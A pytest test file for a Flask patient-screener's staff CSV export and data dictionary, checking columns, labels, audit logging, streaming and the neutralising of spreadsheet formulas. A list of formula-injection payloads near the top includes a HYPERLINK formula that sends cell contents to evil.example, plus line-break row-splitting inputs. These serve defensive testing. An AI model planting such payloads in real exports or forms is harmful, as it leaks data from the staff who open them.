"""CSV export and data dictionary: columns, codes or labels, no runnable formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy import update
from sqlalchemy.orm import Session

from screener.db.models import AuditEvent
from screener.db.models import Submission
from screener.questionnaire import Questionnaire
from screener.submissions import export

from .conftest import SubmissionFactory
from .patient_walk import PatientWalk

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    # A line break ends a CSV row unless the cell is quoted: each of these would start
    # a new row, or a new line in the cell, with a formula.
    "x\n=1+1",
    "x\r\n=HYPERLINK(CONCATENATE(CHAR(104);B2);B2)",
    "x\r+1",
    "a, b\n@SUM(1)",
]


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def download(client: FlaskClient, **form: str) -> bytes:
    response = client.post("/staff/export.csv", data=form)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="screener-submissions-'
    )
    assert response.headers["Cache-Control"] == "no-store"
    return response.get_data()


def test_columns_follow_the_questionnaire(questionnaire: Questionnaire) -> None:
    names = [col.name for col in export.columns(questionnaire)]
    assert names[:8] == [
        "reference",
        "submitted_on",
        "questionnaire_version",
        "language",
        "status",
        "red_flag_level",
        "distribution_pattern",
        "regions",
    ]
    question_ids = [name.split("___")[0] for name in names[8:]]
    order = [q.id for q in questionnaire.questions()]
    assert list(dict.fromkeys(question_ids)) == order
    assert "body_regions___neck" in names
    assert "body_regions" not in names  # multiple choice: one 0/1 column per option


def test_one_row_per_submission_with_codes(
    staff_client: FlaskClient, make_submission: SubmissionFactory
) -> None:
    first = make_submission(
        answers={
            "safety_now": ["none"],
            "body_regions": ["neck"],
            "who_answering": "self",
        }
    )
    make_submission()
    body = download(staff_client)
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a byte-order mark
    rows = parse(body)
    header, data = rows[0], rows[1:]
    assert len(data) == 2
    row = dict(
        zip(header, next(r for r in data if r[0] == first.reference), strict=True)
    )
    assert row["who_answering"] == "self"
    assert row["body_regions___neck"] == "1"
    assert row["body_regions___eyes"] == "0"
    assert row["arm_side"] == ""  # not asked (no arm or hand) is blank, not "no"
    # On this made-up patient's path but never answered: asked, left blank.
    assert row["move_pulled"] == export.LEFT_BLANK
    assert row["regions"] == "neck"


def test_the_staff_only_pattern_is_a_column_and_a_filter(
    staff_client: FlaskClient, make_submission: SubmissionFactory, questionnaire
) -> None:
    def answered(regions: list[str]) -> dict[str, object]:
        return {"safety_now": ["none"], "body_regions": regions}

    focal = make_submission(regions=["neck"], answers=answered(["neck"]))
    # Stored cells, as a real submission has: the pattern is not among them, it is
    # the submission's own column, on the fast path as on the slow one.
    segmental = make_submission(
        regions=["neck", "voice"],
        answers=answered(["neck", "voice"]),
        export_cells=export.stored_cells(questionnaire, answered(["neck", "voice"])),
        export_hash=export.cells_key(questionnaire),
    )
    nothing = make_submission(regions=[], answers=answered([]))

    def patterns(**form: str) -> dict[str, str]:
        rows = parse(download(staff_client, **form))
        column = rows[0].index("distribution_pattern")
        return {row[0]: row[column] for row in rows[1:]}

    assert patterns() == {
        focal.reference: "focal",
        segmental.reference: "segmental",
        nothing.reference: "",
    }
    assert patterns(labels="1")[segmental.reference] == "Segmental"
    assert patterns(pattern="segmental") == {segmental.reference: "segmental"}


def test_labels_on_request(
    staff_client: FlaskClient, make_submission: SubmissionFactory, questionnaire
) -> None:
    make_submission(
        answers={
            "safety_now": ["none"],
            "body_regions": ["neck"],
            "who_answering": "self",
        }
    )
    rows = parse(download(staff_client, labels="1"))
    row = dict(zip(rows[0], rows[1], strict=True))
    label = questionnaire.choice_label(questionnaire.question("who_answering"), "self")
    assert row["who_answering"] == label


def test_formulas_are_neutralised_in_the_raw_bytes(
    staff_client: FlaskClient, make_submission: SubmissionFactory
) -> None:
    for value in MALICIOUS:
        answers = {"safety_now": ["none"], "anything_else": value, "pain_severity": -3}
        make_submission(answers=answers)
    body = download(staff_client)
    # RFC 4180 quoting on the wire: the quote marks inside are doubled.
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in body
    rows = parse(body)
    assert {len(row) for row in rows} == {len(rows[0])}  # no row broken in pieces
    assert len(rows) == 1 + len(MALICIOUS)
    column = rows[0].index("anything_else")
    assert sorted(row[column] for row in rows[1:]) == sorted(
        export.neutralise(value) for value in MALICIOUS
    )
    for row in rows[1:]:
        for cell in row:
            if re.fullmatch(r"-?\d+", cell):
                continue  # a number stays a number, sign and all
            for line in re.split(r"\r\n|\r|\n", cell):
                assert not line.startswith(export.FORMULA_STARTS), repr(cell)
    assert {row[rows[0].index("pain_severity")] for row in rows[1:]} == {"-3"}


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-3", "'-3"),
        (-3, -3),
        (7, 7),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("x\n=1+1", "x\n'=1+1"),
        ("x\r\n-2\r+3", "x\r\n'-2\r'+3"),
        ("\r=1", "'\r'=1"),
        ("two\nlines", "two\nlines"),
        # A patient who typed the left-blank code: it must not read as left blank.
        ("ASKU", "'ASKU"),
        ("ASKU!", "ASKU!"),
    ],
)
def test_neutralise(cell: str | int, expected: str | int) -> None:
    assert export.neutralise(cell) == expected


def test_export_follows_the_queue_filters_and_is_audited(
    staff_client: FlaskClient, make_submission: SubmissionFactory, db: Session
) -> None:
    urgent = make_submission(red_flag_level="emergency")
    make_submission()
    rows = parse(download(staff_client, level="emergency", order="urgent"))
    assert [row[0] for row in rows[1:]] == [urgent.reference]
    event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert event.actor == "reviewer1"
    assert event.details == {
        "rows": 1,
        "completed": True,
        "labels": False,
        "filters": {"level": "emergency", "order": "urgent"},
    }


def test_export_is_post_only_with_csrf(staff_client: FlaskClient) -> None:
    assert staff_client.get("/staff/export.csv").status_code == 405


def test_the_export_streams(
    staff_client: FlaskClient, make_submission: SubmissionFactory, monkeypatch
) -> None:
    monkeypatch.setattr(export.writer, "ROWS_PER_CHUNK", 2)
    for _ in range(5):
        make_submission()
    response = staff_client.post("/staff/export.csv", data={}, buffered=False)
    assert response.is_streamed
    chunks = list(response.response)
    assert len(chunks) >= 3  # header and rows arrive in pieces, not one buffer
    response.close()


def test_the_data_dictionary_describes_every_column(
    staff_client: FlaskClient, questionnaire: Questionnaire, db
) -> None:
    response = staff_client.get("/staff/data-dictionary.csv")
    rows = parse(response.get_data())
    assert rows[0] == export.DICTIONARY_HEADER
    assert [row[0] for row in rows[1:]] == [
        col.name for col in export.columns(questionnaire)
    ]
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["body_regions___neck"][
        "choices"
    ] == "neck=" + questionnaire.choice_label(
        questionnaire.question("body_regions"), "neck"
    )
    assert "includes neck" in by_name["neck_direction___turn_left"]["show_if"]
    pattern = by_name["distribution_pattern"]["meaning"]
    assert "focal, segmental, multifocal, generalised, hemi" in pattern
    assert "blank if no region was reported" in pattern
    assert "not shown to the patient; not a diagnosis" in pattern
    assert db.scalar(
        select(AuditEvent.action).where(AuditEvent.action == "data_dictionary")
    )


def test_export_from_the_command_line(
    app: Flask, make_submission: SubmissionFactory, db: Session, tmp_path: Path
) -> None:
    import datetime as dt

    inside = make_submission(submitted_on=dt.date(2026, 11, 5))
    make_submission(submitted_on=dt.date(2026, 10, 1))
    out = tmp_path / "export.csv"
    result = app.test_cli_runner().invoke(
        args=[
            "export-csv",
            "--out",
            str(out),
            "--since",
            "2026-11-01",
            "--until",
            "2026-11-30",
        ]
    )
    assert result.exit_code == 0, result.output
    rows = parse(out.read_bytes())
    assert [row[0] for row in rows[1:]] == [inside.reference]
    event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert (event.actor, event.details["rows"]) == ("cli", 1)


def test_stored_cells_export_exactly_what_the_answers_would(
    app: Flask, staff_client: FlaskClient, db: Session
) -> None:
    q = app.extensions["screener.questionnaire"]
    for overrides in (
        {"body_regions": ["neck", "eyes"]},
        {"anything_else": '=1+1, "quoted"\nnext line'},
    ):
        PatientWalk(app.test_client(), q).complete(overrides)
    stored = db.scalars(select(Submission.export_hash)).all()
    assert stored == [export.cells_key(q)] * 2  # submitting stored them
    fast = download(staff_client)
    db.execute(update(Submission).values(export_hash="an older questionnaire"))
    slow = download(staff_client)  # now every row is built from its answers
    assert fast == slow
    assert b"'=1+1" in fast


def test_labels_are_built_from_the_answers(
    app: Flask, staff_client: FlaskClient
) -> None:
    q = app.extensions["screener.questionnaire"]
    PatientWalk(app.test_client(), q).complete()
    rows = parse(download(staff_client, labels="1"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["who_answering"] == q.choice_label(q.question("who_answering"), "self")


def test_refreshing_re_renders_rows_from_older_versions(
    app: Flask, staff_client: FlaskClient, db: Session
) -> None:
    q = app.extensions["screener.questionnaire"]
    PatientWalk(app.test_client(), q).complete()
    before = download(staff_client)
    db.execute(update(Submission).values(export_hash=None, export_cells=None))
    result = app.test_cli_runner().invoke(args=["refresh-export-rows"])
    assert "Re-rendered 1 submission." in result.output
    assert db.scalar(select(Submission.export_hash)) == export.cells_key(q)
    assert download(staff_client) == before


def test_a_line_break_in_a_free_text_answer_cannot_start_a_row(
    app: Flask, staff_client: FlaskClient, db: Session
) -> None:
    """The attack as an anonymous patient made it: a free-text answer with a line
    break and a formula, exported from the cells stored at submission."""
    q = app.extensions["screener.questionnaire"]
    attack = "x\n=1+1"
    PatientWalk(app.test_client(), q).complete({"anything_else": attack})
    stored = db.scalar(select(Submission.export_cells))
    assert '"x\n\'=1+1"' in stored  # quoted, and its second line neutralised
    body = download(staff_client)
    assert b"\n=1+1" not in body
    rows = parse(body)
    assert len(rows) == 2
    assert len(rows[1]) == len(rows[0])
    assert dict(zip(rows[0], rows[1], strict=True))["anything_else"] == "x\n'=1+1"


def test_cells_stored_with_the_old_encoding_are_not_exported(
    app: Flask, staff_client: FlaskClient, db: Session
) -> None:
    """Cells written before line breaks were quoted carry the old key (the
    questionnaire's hash alone): the export rebuilds them, and refreshing re-encodes."""
    q = app.extensions["screener.questionnaire"]
    PatientWalk(app.test_client(), q).complete({"anything_else": "x\n=1+1"})
    db.execute(  # as the old encoder wrote them: the line break unquoted
        update(Submission).values(export_hash=q.content_hash, export_cells="x\n=1+1")
    )
    rows = parse(download(staff_client))
    assert [len(row) for row in rows] == [len(rows[0])] * 2
    result = app.test_cli_runner().invoke(args=["refresh-export-rows"])
    assert "Re-rendered 1 submission." in result.output
    assert '"x\n\'=1+1"' in db.scalar(select(Submission.export_cells))
